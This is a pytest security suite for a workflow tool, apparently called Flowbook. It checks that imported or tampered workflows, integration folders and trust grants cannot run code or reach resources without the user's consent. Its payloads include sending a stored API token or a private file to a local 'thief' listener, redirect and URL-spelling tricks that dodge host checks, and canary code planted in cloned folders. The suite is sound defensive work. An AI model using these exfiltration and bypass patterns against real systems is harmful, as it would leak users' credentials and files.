"""Attacks on consent: by import, redirect, label, symbolic link, sub-workflow, zip, cloned folder, tampered grants and
store. None gets a credential, a file or code past what a person consented to.

Each payload would leave a trace: a request at a server that listens, or a file. Afterwards there is none.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import sqlite3
import threading
import zipfile
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest

from flowbook.cli import run as command
from flowbook.errors import FlowbookError, StoreError, Untrusted
from flowbook.models import Workflow
from flowbook.workspace import FileText, Workspace
from tests.crosses import crossed

SECRET = "canary-5ecret-0123456789"


class Listener:
    """A server that notes what reaches it, and answers as ``answer`` says."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, dict[str, str]]] = []
        self.answer: Callable[[str], tuple[int, dict[str, str], bytes]] = lambda path: (
            200, {"Content-Type": "application/json"}, b"{}",
        )  # fmt: skip
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def handle_any(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                listener.requests.append((self.command, self.path, dict(self.headers)))
                status, headers, body = listener.answer(self.path)
                self.send_response(status)
                for name, value in {**headers, "Content-Length": str(len(body))}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = do_PATCH = handle_any

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(autouse=True)
def nothing_trusted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("FLOWBOOK_TRUST", raising=False)


@pytest.fixture
def service() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@pytest.fixture
def thief() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@pytest.fixture
def home(tmp_path: Path, service: Listener, monkeypatch: pytest.MonkeyPatch) -> Iterator[Workspace]:
    """A person's own workspace, with an integration, a workflow of theirs, and a place outside."""
    root = tmp_path / "home"
    root.mkdir()
    monkeypatch.chdir(root)
    ws = Workspace(root)
    ws.create_type("http")
    ws.create_integration("My API", "http", {"base_url": service.url, "token": SECRET})
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("private")
    settings = {"places": [{"path": str(outside), "write": True}]}
    (root / ".flowbook" / "settings.json").write_text(json.dumps(settings))
    (root / "linked").symlink_to(outside)
    own = Workflow(name="own-cleanup")
    own.add("wipe", "core.python", params={"code": "open('trace','w')"})
    ws.save(own)
    yield ws
    ws.close()


def one(task: str, params: dict[str, Any] | None = None, **fields: Any) -> dict[str, Any]:
    """The nodes of a workflow with one that does something."""
    return {"a": {"task": task, "params": params or {}, **fields}}


CODE = {"code": "open('trace', 'w').write('x')"}
WRITE = {"text": "echo pwned"}
OUTSIDE = "linked/secret.txt"
PAYLOADS: dict[str, Callable[[str], dict[str, Any]]] = {
    "code": lambda url: one("core.python", CODE),
    "code for each": lambda url: one("core.python", CODE, for_each=[1]),
    "code with a condition": lambda url: one("core.python", CODE, when="1 == 1"),
    "code in a process": lambda url: one("core.python", CODE, isolate=True),
    "code that is computed": lambda url: one("core.python", {"code": "${{ 'open(\"trace\", \"w\")' }}"}),
    "code after a failure": lambda url: {"f": {"task": "core.fail", "params": {"message": "x"}, "on_error": "continue"},
                                         **one("core.python", CODE)},
    "code with a label": lambda url: one("core.python", CODE, label="Send a greeting"),
    "credentials": lambda url: one("http.request", {"url": "x"}, integration="My API"),
    "credentials to elsewhere": lambda url: one("http.request", {"url": url}, integration="My API"),
    "credentials by a test": lambda url: one("http.test_connection", {}, integration="My API"),
    "a server": lambda url: one("http.request", {"url": url}),
    "a server that is computed": lambda url: one("http.request", {"url": f"${{{{ '{url}' }}}}"}),
    "a server in pieces": lambda url: one("http.request", {"url": url.replace("127", "${{ 127 }}")}),
    "a file sent": lambda url: one("http.request", {"url": url, "method": "POST", "file_path": "linked/secret.txt"}),
    "a script": lambda url: one("files.write_text", {"path": "trace.sh", **WRITE}),
    "a module": lambda url: one("files.write_text", {"path": "sub/trace.py", **WRITE}),
    "a notebook": lambda url: one("files.write_text", {"path": "trace.ipynb", **WRITE}),
    "a workflow": lambda url: one("files.write_text", {"path": "trace.flow.yaml", **WRITE}),
    "a page": lambda url: one("files.write_text", {"path": "trace.html", **WRITE}),
    "a makefile": lambda url: one("files.write_text", {"path": "Makefile", **WRITE}),
    "a package": lambda url: one("files.write_text", {"path": "package.json", **WRITE}),
    "requirements": lambda url: one("files.write_text", {"path": "requirements-dev.txt", **WRITE}),
    "a computed name": lambda url: one("files.write_text", {"path": "${{ 'trace.sh' }}", **WRITE}),
    "a computed end": lambda url: one("files.write_text", {"path": "trace.${{ 'sh' }}", **WRITE}),
    "a file outside read": lambda url: one("files.read_text", {"path": "linked/secret.txt"}),
    "a file outside by a computed path": lambda url: one("files.read_text", {"path": "${{ 'linked/secret.txt' }}"}),
    "a file outside written": lambda url: one("files.write_text", {"path": "linked/trace.txt", **WRITE}),
    "a file outside deleted": lambda url: one("files.delete", {"path": "linked/secret.txt"}),
    "a file outside copied": lambda url: one("files.copy", {"source": "linked/secret.txt", "target": "trace.txt"}),
    "an own workflow": lambda url: one("core.run_workflow", {"workflow": "own-cleanup"}),
    "an own workflow by a computed name": lambda url: one("core.run_workflow", {"workflow": "${{ 'own-cleanup' }}"}),
}  # fmt: skip


def document(nodes: dict[str, Any], name: str = "gift") -> str:
    return json.dumps({"flowbook": 1, "name": name, "nodes": nodes})


def by_file(ws: Workspace, text: str) -> None:
    path = ws.root / "gift.flow.yaml"
    path.write_text(text)
    ws.run(path)


def by_link(ws: Workspace, text: str) -> None:
    (ws.root.parent / "elsewhere.flow.yaml").write_text(text)
    link = ws.root / "own-cleanup.flow.yaml"
    link.symlink_to(ws.root.parent / "elsewhere.flow.yaml")
    ws.run(link)


def by_text(ws: Workspace, text: str) -> None:
    ws.run(FileText(text, "gift"))


def by_import(ws: Workspace, text: str) -> None:
    path = ws.root / "gift.flow.yaml"
    path.write_text(text)
    ws.import_workflow(path)
    ws.run("gift")


def by_the_studio(ws: Workspace, text: str) -> None:
    workflow = ws.read(FileText(text, "gift")).workflow
    assert workflow is not None
    ws.start(workflow, restricted=True).wait()


def by_the_store(ws: Workspace, text: str) -> None:
    """Somebody else wrote into the store's file."""
    ws.save(Workflow(name="gift"))
    path = ws.root / ".flowbook" / "flowbook.json"
    stored = json.loads(path.read_text())
    for record in stored["workflows"].values():
        if record["name"] == "gift":
            record["document"] = json.loads(text)
    path.write_text(json.dumps(stored))
    with Workspace(ws.root) as again:
        again.run("gift")


def by_a_step(ws: Workspace, text: str) -> None:
    """One that needs nothing itself runs it."""
    path = ws.root / "gift.flow.yaml"
    path.write_text(text)
    ws.import_workflow(path)
    ws.run(FileText(document(one("core.run_workflow", {"workflow": "gift"}), "innocent"), "innocent"))


def by_command(ws: Workspace, text: str) -> None:
    path = ws.root / "gift.flow.yaml"
    path.write_text(text)
    code = command(["-C", str(ws.root), "run", str(path)])
    assert code == 3, f"exit code {code}"
    raise Untrusted("as the exit code says")


DOORS = [by_file, by_link, by_text, by_import, by_the_studio, by_the_store, by_a_step, by_command]


def check_no_trace(ws: Workspace, *listeners: Listener) -> None:
    for listener in listeners:
        assert listener.requests == []
    root = ws.root
    left = [path for place in (root, root.parent / "outside") for path in place.rglob("*") if "trace" in path.name]
    assert left == []
    for name in ("Makefile", "package.json", "requirements-dev.txt"):
        assert not (root / name).exists()
    assert (root.parent / "outside" / "secret.txt").read_text() == "private"


@pytest.mark.parametrize(("payload", "door"), crossed(PAYLOADS, DOORS, each=3))
def test_nothing_comes_in_by_an_import(
    home: Workspace, payload: str, door: Callable[[Workspace, str], None], service: Listener, thief: Listener
) -> None:
    with pytest.raises(Untrusted):
        door(home, document(PAYLOADS[payload](thief.url)))
    check_no_trace(home, service, thief)


@pytest.mark.parametrize(
    "files",
    [{"a": OUTSIDE}, {"content": OUTSIDE}, {"file_path": "in.csv", "b": OUTSIDE}, {"a": ["in.csv", OUTSIDE]},
     {"a": [OUTSIDE], "filename": "in.csv"}, json.dumps({"a": OUTSIDE}), json.dumps({"a": ["in.csv", OUTSIDE]})],
)  # fmt: skip
def test_a_review_names_what_is_read_outside_by_whatever_field(home: Workspace, files: Any) -> None:
    """A field of a form may have any name, also one by which an attachment's file is told from its content."""
    params = {"url": "http://127.0.0.1:9/", "method": "POST", "files": files}
    text = FileText(document(one("http.request", params)), "gift")
    assert str(home.root.parent / "outside") in str(home.review(text))


class TestRedirects:
    """An integration is used with its own servers, whatever an answer says."""

    @pytest.fixture
    def granted(self, home: Workspace, service: Listener, thief: Listener) -> Callable[..., Any]:
        def go(**params: Any) -> Any:
            text = FileText(document(one("http.request", {"retries": 0, **params}, integration="My API")), "gift")
            home.trust(text, home.review(text).sha256)
            with contextlib.suppress(FlowbookError):
                home.run(text)
            assert thief.requests == []

        return go

    @pytest.mark.parametrize("method", ["GET", "POST", "HEAD", "PUT", "DELETE"])
    @pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
    def test_to_another_server(
        self, granted: Callable[..., Any], service: Listener, thief: Listener, status: int, method: str
    ) -> None:
        service.answer = lambda path: (status, {"Location": f"{thief.url}/take"}, b"")
        granted(url="x", method=method)

    @pytest.mark.parametrize("form", ["{url}/x", "//127.0.0.1:{port}/x", "http://user@127.0.0.1:{port}/x",
                                      "http://127.0.0.1:{service}@127.0.0.1:{port}/", "\\\\127.0.0.1:{port}\\x",
                                      "http://127.1:{port}/x", "http://2130706433:{port}/x", "http://localhost:{port}/x",
                                      "HTTP://127.0.0.1:{port}/x", "http://127.0.0.1:{port}#@127.0.0.1:{service}/",
                                      "http:\\\\127.0.0.1:{port}/x", "http://[::ffff:127.0.0.1]:{port}/"])  # fmt: skip
    def test_in_another_spelling(
        self, granted: Callable[..., Any], service: Listener, thief: Listener, form: str
    ) -> None:
        there = form.format(url=thief.url, port=thief.port, service=service.port)
        service.answer = lambda path: (302, {"Location": there}, b"")
        granted(url="x")
        granted(url=there)

    def test_of_a_next_page(self, granted: Callable[..., Any], service: Listener, thief: Listener) -> None:
        answer = {"Content-Type": "application/json", "Link": f'<{thief.url}/2>; rel="next"'}
        service.answer = lambda path: (200, answer, b"[1]")
        granted(url="x", paginate="link_header")

    def test_of_an_address_that_is_computed(self, granted: Callable[..., Any], thief: Listener) -> None:
        granted(url=f"${{{{ '{thief.url}' + '/x' }}}}")


class TestLabels:
    """Which credential a label means is this workspace's decision, and what was consented to is that one."""

    @pytest.fixture
    def gift(self, home: Workspace) -> FileText:
        text = FileText(document(one("http.request", {"url": "x", "retries": 0}, integration="My API")), "gift")
        home.trust(text, home.review(text).sha256)
        return text

    def test_another_integration_of_that_name_is_asked_about(
        self, home: Workspace, gift: FileText, thief: Listener
    ) -> None:
        home.delete_integration("My API")
        home.create_integration("My API", "http", {"base_url": thief.url, "token": SECRET})
        with pytest.raises(Untrusted):
            home.run(gift)
        assert thief.requests == []

    def test_a_name_that_another_got_is_asked_about(self, home: Workspace, gift: FileText, thief: Listener) -> None:
        home.create_integration("Bank", "http", {"base_url": thief.url, "token": SECRET})
        home.rename_integration("My API", "Old API")
        home.rename_integration("Bank", "My API")
        with pytest.raises(Untrusted):
            home.run(gift)
        assert thief.requests == []

    def test_another_server_is_asked_about(self, home: Workspace, gift: FileText, thief: Listener) -> None:
        home.update_integration("My API", {"base_url": thief.url})
        with pytest.raises(Untrusted):
            home.run(gift)
        assert thief.requests == []

    def test_credentials_of_the_environment_are_asked_about(
        self, home: Workspace, gift: FileText, thief: Listener, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        given = json.dumps({"base_url": thief.url, "token": SECRET})
        monkeypatch.setenv("FLOWBOOK_CREDENTIALS__MY_API", given)
        with pytest.raises(Untrusted):
            home.run(gift)
        assert thief.requests == []

    def test_a_server_written_into_the_store_is_not_used(
        self, home: Workspace, gift: FileText, thief: Listener
    ) -> None:
        path = home.root / ".flowbook" / "flowbook.json"
        home.close()
        path.write_text(path.read_text().replace(home.integration("My API").fields["base_url"], thief.url))
        with Workspace(home.root) as again, contextlib.suppress(FlowbookError):
            again.run(gift)
        assert thief.requests == []

    @pytest.mark.parametrize("task", ["http.test_connection"])
    def test_another_task_with_it_is_asked_about(
        self, home: Workspace, gift: FileText, service: Listener, task: str
    ) -> None:
        other = FileText(document(one(task, {}, integration="My API")), "gift")
        with pytest.raises(Untrusted):
            home.run(other)
        assert service.requests == []


class TestSubWorkflows:
    """A consent is for what a workflow runs as it was looked at, all the way down."""

    @pytest.fixture
    def parent(self, home: Workspace) -> FileText:
        (home.root / "child.flow.yaml").write_text(document(one("core.set", {"values": 1}), "child"))
        home.import_workflow(home.root / "child.flow.yaml")
        nodes = {"a": {"task": "core.python", "params": {"code": "1"}},
                 "b": {"task": "core.run_workflow", "params": {"workflow": "child"}}}  # fmt: skip
        text = FileText(document(nodes, "parent"), "parent")
        home.trust(text, home.review(text).sha256)
        home.run(text)
        return text

    @pytest.mark.parametrize("payload", ["code", "credentials", "a server", "a script", "a file outside read",
                                         "an own workflow"])  # fmt: skip
    def test_one_that_was_changed_is_asked_about(
        self, home: Workspace, parent: FileText, payload: str, service: Listener, thief: Listener
    ) -> None:
        (home.root / "child.flow.yaml").write_text(document(PAYLOADS[payload](thief.url), "child"))
        home.import_workflow(home.root / "child.flow.yaml", replace=True)
        with pytest.raises(Untrusted):
            home.run(parent)
        check_no_trace(home, service, thief)

    def test_one_that_is_changed_while_it_runs_is_not_run(self, home: Workspace) -> None:
        """Between the consent and the step."""
        self_changing = (
            "import json,pathlib\np=pathlib.Path('.flowbook/flowbook.json')\nd=json.loads(p.read_text())\n"
            "for r in d['workflows'].values():\n"
            " if r['name']=='child': r['document']['nodes']={'a':{'task':'http.request','params':{'url':'http://x.invalid'}}}\n"
            "p.write_text(json.dumps(d))"
        )
        (home.root / "child.flow.yaml").write_text(document(one("core.set", {"values": 1}), "child"))
        home.import_workflow(home.root / "child.flow.yaml")
        nodes = {"a": {"task": "core.python", "params": {"code": self_changing}},
                 "b": {"task": "core.run_workflow", "params": {"workflow": "child"}}}  # fmt: skip
        flow = {"flowbook": 1, "name": "parent", "nodes": nodes, "edges": [{"from": "a", "to": "b"}]}
        text = FileText(json.dumps(flow), "parent")
        home.trust(text, home.review(text).sha256)
        with pytest.raises(FlowbookError, match="not trusted"):
            home.run(text)


CANARY = (
    "open({trace!r}, 'w').close()\ndef test_connection(credentials):\n    return {{'success': True, 'message': ''}}\n"
)


def _folders(ws: Workspace) -> list[str]:
    """The names of those that came with the folder, without which all those of Flowbook would be looked at, too."""
    return sorted(path.name for path in (ws.root / "integrations").iterdir())


class TestClonedFolders:
    """Nothing of a workspace that came from elsewhere is imported before somebody looked at its code."""

    @pytest.fixture
    def trace(self, tmp_path: Path) -> Path:
        return tmp_path / "imported"

    @pytest.fixture
    def cloned(self, tmp_path: Path, trace: Path) -> Path:
        root = tmp_path / "cloned"
        folder = root / "integrations" / "gift"
        folder.mkdir(parents=True)
        (folder / "tasks.py").write_text(CANARY.format(trace=str(trace)))
        text = document(one("gift.test_connection"))
        (root / "gift.flow.yaml").write_text(text)
        return root

    USES: ClassVar[dict[str, Callable[[Workspace], Any]]] = {
        "all folders": lambda ws: ws.integration_folders(),
        "one folder": lambda ws: ws.integration_folder("gift"),
        "a task": lambda ws: ws.task("gift.test_connection"),
        "a check": lambda ws: ws.check(ws.root / "gift.flow.yaml"),
        "a run": lambda ws: ws.run(ws.root / "gift.flow.yaml"),
        "a review": lambda ws: ws.review(ws.root / "gift.flow.yaml"),
        "a look at the folder": lambda ws: ws.review_folder(),
        "a type": lambda ws: ws.create_type("gift"),
        "credentials tried": lambda ws: ws.test_credentials("gift", {}),
        "a workflow built in code": lambda ws: _run_built(ws),
        "an import": lambda ws: ws.import_workflow(ws.root / "gift.flow.yaml"),
        "the catalog's command": lambda ws: command(["-C", str(ws.root), "catalog"]),
        "the check command": lambda ws: command(["-C", str(ws.root), "check", "--integrations", *_folders(ws)]),
        "init": lambda ws: command(["init", str(ws.root)]),
    }  # fmt: skip

    HOW: ClassVar = ["cloned", "with a workspace of its own", "shadowing a built-in one", "by a link"]

    @pytest.mark.parametrize(("use", "how"), [*crossed(USES, HOW[1:], each=1), *((use, "cloned") for use in USES)])
    def test_nothing_of_it_is_imported(self, cloned: Path, trace: Path, use: str, how: str, home: Workspace) -> None:
        if how == "with a workspace of its own":
            shutil.copytree(home.root / ".flowbook", cloned / ".flowbook")
        elif how == "shadowing a built-in one":
            shutil.copytree(cloned / "integrations" / "gift", cloned / "integrations" / "core")
        elif how == "by a link":
            shutil.move(cloned / "integrations", cloned.parent / "code")
            (cloned / "integrations").symlink_to(cloned.parent / "code")
        with Workspace(cloned) as ws, contextlib.suppress(FlowbookError):
            self.USES[use](ws)
        assert not trace.exists()

    def test_another_one_at_the_same_path_is_asked_about(self, cloned: Path, trace: Path) -> None:
        with Workspace(cloned) as ws:
            ws.trust_folder(ws.review_folder().sha256)
        content = (cloned / "integrations" / "gift" / "tasks.py").read_text()
        shutil.rmtree(cloned)
        (cloned / "integrations" / "gift").mkdir(parents=True)
        (cloned / "integrations" / "gift" / "tasks.py").write_text(content)
        (cloned / ".flowbook").mkdir()
        with Workspace(cloned) as ws, contextlib.suppress(FlowbookError):
            ws.task("gift.test_connection")
        assert not trace.exists()

    @pytest.mark.parametrize("change", ["the file", "a new module", "a new folder", "a link in its place"])
    def test_a_version_is_that_version_only(self, cloned: Path, trace: Path, change: str) -> None:
        harmless = "def test_connection(credentials):\n    return {'success': True, 'message': ''}\n"
        folder = cloned / "integrations" / "gift"
        canary = (folder / "tasks.py").read_text()
        (folder / "tasks.py").write_text(harmless)
        with Workspace(cloned) as ws:
            ws.trust_folder(ws.review_folder().sha256, version=True)
            assert ws.task("gift.test_connection").name == "gift.test_connection"
        if change == "the file":
            (folder / "tasks.py").write_text(canary)
        elif change == "a new module":
            (folder / "__init__.py").write_text(canary)
        elif change == "a new folder":
            (cloned / "integrations" / "other").mkdir()
            (cloned / "integrations" / "other" / "tasks.py").write_text(canary)
        else:
            (cloned.parent / "code.py").write_text(canary)
            (folder / "tasks.py").unlink()
            (folder / "tasks.py").symlink_to(cloned.parent / "code.py")
        with Workspace(cloned) as ws, contextlib.suppress(FlowbookError):
            ws.integration_folders()
        assert not trace.exists()

    def test_what_is_imported_late_is_what_was_looked_at(self, cloned: Path, trace: Path) -> None:
        """A folder that is changed while a run goes on, after it was consented to."""
        folder = cloned / "integrations" / "gift"
        canary = (folder / "tasks.py").read_text()
        (folder / "__init__.py").touch()
        (folder / "late.py").write_text("said = 'looked at'\n")
        (folder / "tasks.py").write_text(
            "from pathlib import Path\n\n\ndef test_connection(credentials):\n"
            f"    Path({str(folder / 'late.py')!r}).write_text({canary!r})\n    from .late import said\n\n"
            "    return {'success': True, 'message': said}\n"
        )
        with Workspace(cloned) as ws:
            ws.trust_folder(ws.review_folder().sha256, version=True)
            ws.trust(cloned / "gift.flow.yaml", ws.review(cloned / "gift.flow.yaml").sha256)
            assert ws.run(cloned / "gift.flow.yaml")["a"].message == "looked at"
        assert not trace.exists()

    def test_a_copy_of_a_workspace_is_asked_about(self, home: Workspace, trace: Path) -> None:
        folder = home.root / "integrations" / "gift"
        folder.mkdir(parents=True)
        (folder / "tasks.py").write_text(CANARY.format(trace=str(trace)))
        home.close()
        copy = home.root.parent / "copy"
        shutil.copytree(home.root, copy, symlinks=True)
        with Workspace(copy) as ws:
            with contextlib.suppress(FlowbookError):
                ws.task("gift.test_connection")
            with pytest.raises(Untrusted):
                ws.run("own-cleanup")
        assert not trace.exists()
        assert not (copy / "trace").exists()

    def test_a_zip_is_not_imported_where_nothing_was_trusted(self, cloned: Path, trace: Path) -> None:
        made = cloned.parent / "more.zip"
        with zipfile.ZipFile(made, "w") as archive:
            archive.writestr("more/tasks.py", CANARY.format(trace=str(trace)))
        Workspace(cloned).close()
        assert command(["-C", str(cloned), "integrations", "add", str(made)]) == 2  # nobody consented
        assert command(["-C", str(cloned), "integrations", "add", str(made), "--yes"]) == 0
        with Workspace(cloned) as ws, contextlib.suppress(FlowbookError):
            ws.integration_folders()
        assert not trace.exists()


def _run_built(ws: Workspace) -> None:
    flow = Workflow(name="built")
    flow.add("a", "gift.test_connection")
    ws.run(flow)


class TestStandingAnswers:
    """ "This file from now on" is about what the person edits, not about what others store in its place."""

    HARMLESS: ClassVar = document(one("core.python", {"code": "1"}))
    MEAN: ClassVar = document(one("core.python", CODE))

    def by_an_agent(ws: Workspace, text: str) -> None:  # type: ignore[misc]
        ws.save(ws.read(FileText(text, "gift")).workflow, overwrite=True, trusted=False)  # type: ignore[arg-type]

    def by_an_import(ws: Workspace, text: str) -> None:  # type: ignore[misc]
        (ws.root / "theirs.flow.yaml").write_text(text)
        ws.import_workflow(ws.root / "theirs.flow.yaml", replace=True)

    def by_a_name_that_is_free_again(ws: Workspace, text: str) -> None:  # type: ignore[misc]
        ws.delete_workflow("gift")
        (ws.root / "theirs.flow.yaml").write_text(text.replace("gift", "other"))
        ws.import_workflow(ws.root / "theirs.flow.yaml")
        ws.rename_workflow("other", "gift")

    def by_the_store_s_file(ws: Workspace, text: str) -> None:  # type: ignore[misc]
        ws.store.save_workflow(ws.read(FileText(text, "gift")).workflow, revision=None)  # type: ignore[arg-type]

    STORING: ClassVar = [by_an_agent, by_an_import, by_a_name_that_is_free_again, by_the_store_s_file]

    @pytest.mark.parametrize("store", STORING)
    @pytest.mark.parametrize("runs", ["itself", "by a step", "by a computed step"])
    def test_what_others_store_is_asked_about(
        self, home: Workspace, store: Callable[[Workspace, str], None], runs: str
    ) -> None:
        (home.root / "gift.flow.yaml").write_text(self.HARMLESS)
        home.import_workflow(home.root / "gift.flow.yaml")
        started: Any = "gift"
        if runs == "itself":
            home.trust("gift", home.review("gift").sha256, reach="file")
        else:
            name = "gift" if runs == "by a step" else "${{ 'gift' }}"
            nodes = {
                **one("core.run_workflow", {"workflow": name}),
                "b": {"task": "core.python", "params": {"code": "2"}},
            }
            started = home.root / "outer.flow.yaml"
            started.write_text(document(nodes, "outer"))
            home.trust(started, home.review(started).sha256, reach="file")
            home.trust("gift", home.review("gift").sha256)
        assert home.run(started).status == "succeeded"
        store(home, self.MEAN)
        with pytest.raises(FlowbookError):
            home.run(started)
        check_no_trace(home)

    def test_what_the_person_edits_is_not(self, home: Workspace) -> None:
        file = home.root / "gift.flow.yaml"
        file.write_text(self.HARMLESS)
        home.import_workflow(file)
        home.trust("gift", home.review("gift").sha256, reach="file")
        home.trust(file, home.review(file).sha256, reach="file")
        file.write_text(document(one("core.python", {"code": "2"})))
        assert home.run(file)["a"].data == 2
        edited = home.workflow("gift")
        edited.change("a", params={"code": "3"})
        home.save(edited)
        assert home.run("gift")["a"].data == 3


class TestTamperedGrants:
    """What says what was trusted counts only as Flowbook wrote it."""

    @pytest.fixture
    def gift(self, home: Workspace) -> FileText:
        text = FileText(document(one("core.python", CODE)), "gift")
        harmless = FileText(document(one("core.python", {"code": "1"})), "gift")
        home.trust(harmless, home.review(harmless).sha256)
        return text

    def grants(self) -> Path:
        return Path(os.environ["FLOWBOOK_CONFIG_DIR"]) / "trust" / "grants.json"

    TAMPERING: ClassVar[dict[str, Callable[[dict[str, Any], str], Any]]] = {
        "another hash": lambda d, sha: d["grants"][-1].update(sha256=sha),
        "a wider reach": lambda d, sha: d["grants"][-1].update(reach="file", target="text:gift"),
        "more needs": lambda d, sha: d["grants"][-1].update(reach="file", needs=[["code", ""]], target="text:gift"),
        "one more": lambda d, sha: d["grants"].append({**d["grants"][-1], "sha256": sha}),
        "no mac": lambda d, sha: (d["grants"][-1].update(sha256=sha), d.pop("mac")),
        "an empty mac": lambda d, sha: (d["grants"][-1].update(sha256=sha), d.update(mac="")),
        "a mac that is no text": lambda d, sha: (d["grants"][-1].update(sha256=sha), d.update(mac=None)),
        "another format": lambda d, sha: (d["grants"][-1].update(sha256=sha), d.update(format=2)),
    }

    @pytest.mark.parametrize("how", TAMPERING)
    def test_a_changed_file_counts_for_nothing(self, home: Workspace, gift: FileText, how: str) -> None:
        path = self.grants()
        content = json.loads(path.read_text())
        self.TAMPERING[how](content, home.review(gift).sha256)
        path.write_text(json.dumps(content))
        with pytest.raises(Untrusted, match="changed by something else"):
            home.run(gift)
        check_no_trace(home)

    @pytest.mark.parametrize("content", ["", "[]", "{", "null", '{"grants": [], "mac": "x"}', "[" * 5000])
    def test_rubbish_counts_for_nothing(self, home: Workspace, gift: FileText, content: str) -> None:
        self.grants().write_text(content)
        with pytest.raises(Untrusted):
            home.run(gift)
        check_no_trace(home)

    @pytest.mark.parametrize("what", ["a pipe", "a folder", "larger than memory", "no text", "a link to nothing else"])
    def test_what_cannot_be_read_counts_for_nothing_and_keeps_nobody_from_deciding_anew(
        self, home: Workspace, gift: FileText, what: str, tmp_path: Path
    ) -> None:
        path = self.grants()
        path.unlink()
        if what == "a pipe":
            os.mkfifo(path)
        elif what == "a folder":
            path.mkdir()
        elif what == "larger than memory":
            with open(path, "wb") as file:
                file.truncate(1 << 40)
        elif what == "no text":
            path.write_bytes(b"\xff\xfe\x00")
        else:
            path.symlink_to(path)
        with pytest.raises(Untrusted, match="cannot be read"):
            home.run(gift)
        check_no_trace(home)
        for ask in (home.grants, lambda: home.revoke("gift")):
            with pytest.raises(StoreError, match="cannot be read"):
                ask()
        for _ in range(2):  # both of what is refused within one second are kept
            home.trust(gift, home.review(gift).sha256)
            assert home.is_trusted(gift)
            path.write_text("{")
        home.trust(gift, home.review(gift).sha256)
        assert len(list(path.parent.glob("grants.json.refused-*"))) == 3

    def test_a_lock_that_is_never_let_go_of_is_waited_for_and_then_named(
        self, home: Workspace, gift: FileText, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        from filelock import FileLock

        monkeypatch.setattr("flowbook.trust.grants.LOCK_SECONDS", 0.05)
        lock = self.grants().with_name("grants.json.lock")
        with FileLock(lock, is_singleton=False), pytest.raises(StoreError, match=r"grants\.json\.lock for more than"):
            home.trust(gift, home.review(gift).sha256)
        assert not home.is_trusted(gift)
        home.trust(gift, home.review(gift).sha256)
        assert home.is_trusted(gift)

    def test_grants_under_another_key_count_for_nothing(self, home: Workspace, gift: FileText, tmp_path: Path) -> None:
        from flowbook.trust.grants import Grants

        foreign = Grants(tmp_path / "foreign")
        mine = Grants().all()[-1]
        foreign.add(mine._replace(sha256=home.review(gift).sha256))
        shutil.copy(foreign.path, self.grants())
        with pytest.raises(Untrusted):
            home.run(gift)
        check_no_trace(home)

    @pytest.mark.parametrize("how", ["readable by others", "a link", "not a key"])
    def test_a_key_that_others_may_know_is_not_used(
        self, home: Workspace, gift: FileText, how: str, tmp_path: Path
    ) -> None:
        key = self.grants().with_name("user.key")
        if how == "readable by others":
            key.chmod(0o644)
        elif how == "a link":
            key.rename(tmp_path / "key")
            key.symlink_to(tmp_path / "key")
        else:
            key.write_text("nothing")
        with Workspace(home.root) as again, pytest.raises(FlowbookError):
            again.run(gift)
        check_no_trace(home)

    @pytest.mark.parametrize("how", ["of another content", "of another workspace", "cut off", "made up"])
    def test_a_signature_holds_for_its_content_and_place_only(self, home: Workspace, how: str, tmp_path: Path) -> None:
        from flowbook.trust.content import content_hash

        signed = home.root / ".flowbook" / "signed"
        workflow = home.read(FileText(document(one("core.python", CODE)), "gift")).workflow
        assert workflow is not None
        hash = content_hash(workflow)
        good = signed.read_text().split()[1]
        if how == "of another workspace":
            (tmp_path / "second").mkdir()
            with Workspace(tmp_path / "second") as second:
                second.save(workflow)
            signed.write_text((tmp_path / "second" / ".flowbook" / "signed").read_text())
        else:
            mac = {"of another content": good, "cut off": good[:20], "made up": "0" * 64}[how]
            signed.write_text(f"{hash} {mac}\n")
        home.store.save_workflow(workflow)
        with Workspace(home.root) as again, pytest.raises(Untrusted):
            again.run("gift")
        check_no_trace(home)


class TestHistory:
    """A run is resumed by what the history recorded, which is a file of the workspace."""

    @pytest.mark.parametrize("payload", ["code", "credentials", "a server", "a script", "an own workflow"])
    def test_a_definition_that_was_changed_is_asked_about(
        self, home: Workspace, payload: str, service: Listener, thief: Listener
    ) -> None:
        with pytest.raises(FlowbookError):
            home.run(FileText(document(one("core.fail", {"message": "x"})), "gift"))
        home.close()
        database = sqlite3.connect(home.root / ".flowbook" / "runs.sqlite")
        text = json.dumps(json.loads(document(PAYLOADS[payload](thief.url))), separators=(",", ":"))
        changed = database.execute(
            "UPDATE definitions SET document = ? WHERE document LIKE '%core.fail%'", (text,)
        ).rowcount
        database.commit()
        database.close()
        assert changed
        with Workspace(home.root) as again, pytest.raises(FlowbookError):
            again.resume("last")
        check_no_trace(home, service, thief)


class TestLookingAndDeciding:
    """What is granted is what was looked at."""

    def test_a_file_that_was_changed_meanwhile_is_not_granted(self, home: Workspace) -> None:
        path = home.root / "gift.flow.yaml"
        path.write_text(document(one("core.python", {"code": "1"})))
        looked = home.review(path)
        path.write_text(document(one("core.python", CODE)))
        with pytest.raises(Untrusted, match="not what was looked at"):
            home.trust(path, looked.sha256)
        with pytest.raises(Untrusted):
            home.run(path, sha256=looked.sha256)
        check_no_trace(home)

    def test_a_hash_of_one_workflow_is_not_anothers(self, home: Workspace) -> None:
        one_file, other = home.root / "one.flow.yaml", home.root / "other.flow.yaml"
        one_file.write_text(document(one("core.python", {"code": "1"}), "one"))
